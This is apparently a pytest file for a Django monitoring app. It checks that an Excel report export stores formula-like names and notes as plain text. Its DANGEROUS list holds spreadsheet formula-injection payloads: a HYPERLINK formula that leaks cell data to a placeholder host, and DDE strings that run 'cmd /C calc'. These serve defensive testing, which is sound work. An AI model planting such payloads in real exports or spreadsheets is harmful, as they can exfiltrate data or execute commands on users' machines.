"""The report's workbook holds names and notes as typed: text that looks like a formula stays text."""

from __future__ import annotations

import datetime as dt
import io

import openpyxl
import pytest
from django.urls import reverse

from sopap.web.monitoring.exports import report_xlsx
from sopap.web.monitoring.models import Penilaian
from sopap.web.monitoring.selectors import Periode, period_report
from sopap.web.monitoring.services import monitoring_record
from tests.web.conftest import SOP_DATA, fresh

pytestmark = pytest.mark.django_db

DANGEROUS = [
    '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik di sini")',
    "=cmd|' /C calc'!A0",
    "+62 812 3456 7890 belum dihubungi",
    "-2+3 berkas hilang",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
NAMA = "=1+1 Mekanisme Penyusunan SPJ"
PD = "@Dinas Komunikasi dan Informatika"


@pytest.fixture
def noted(world, make_sop, to_state):  # type: ignore[no-untyped-def]
    world.pd.nama = PD
    world.pd.save(update_fields=["nama"])
    document = to_state(make_sop(data={**SOP_DATA, "nama": NAMA}), "berlaku").document
    for day, text in enumerate(DANGEROUS, start=1):
        monitoring_record(
            actor=fresh(world.verifier1),
            document=document,
            tanggal=dt.date(2025, 3, day),
            cara="observasi",
            penilaian=Penilaian.TIDAK_BAIK,
            catatan=f"{text} (catatan)",
            tindakan=f"{text} (tindakan)",
        )
    return document


def _cells(content: bytes) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_no_cell_of_the_report_is_a_formula_and_every_note_is_kept_exactly(world, noted):
    summaries = period_report(
        user=fresh(world.admin), periode=Periode("semester", 2025, 1), today=dt.date(2025, 7, 1)
    )
    cells = _cells(report_xlsx(summaries, periode=Periode("semester", 2025, 1), today=dt.date(2025, 7, 1)))
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = [c.value for c in cells]
    for text in DANGEROUS:
        assert f"{text} (catatan)" in values and f"{text} (tindakan)" in values
    assert values.count(NAMA) == 1 + len(DANGEROUS)  # its row in "Rincian SOP", then each finding
    assert values.count(PD) >= 3  # a line in every sheet
    numbers = [c for c in cells if c.value == 1 and c.column == 2]  # counts stay numbers
    assert numbers and all(c.data_type == "n" for c in numbers)


def test_the_downloaded_report_is_the_same_text_only_workbook(login, world, noted):
    response = login(world.sekda).get(reverse("monitoring:report"), {"periode": "2025-S1", "unduh": "xlsx"})
    cells = _cells(response.content)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert f"{DANGEROUS[1]} (catatan)" in [c.value for c in cells]
